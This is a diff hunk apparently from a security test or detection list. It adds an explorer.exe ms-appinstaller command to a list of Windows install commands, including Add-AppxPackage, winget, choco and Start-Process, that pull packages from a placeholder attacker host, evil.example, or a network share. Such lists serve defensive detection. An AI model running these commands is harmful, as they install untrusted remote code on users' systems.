@@ -57,6 +57,7 @@ _EVIL = "https://evil.example"
         f"Add-AppxPackage -AppInstallerFile {_EVIL}/x.appinstaller",
         f'Start-Process "ms-appinstaller:?source={_EVIL}/x.appinstaller"',
         f"cmd /c start ms-appinstaller:?source={_EVIL}/x.appinstaller",
+        f'explorer.exe "ms-appinstaller:?source={_EVIL}/x.appinstaller"',
         r"winget install --manifest \\files.example\m\app.yaml",
         "winget install -m C:\\t\\app.yaml",
         f"choco install x -s {_EVIL}/",
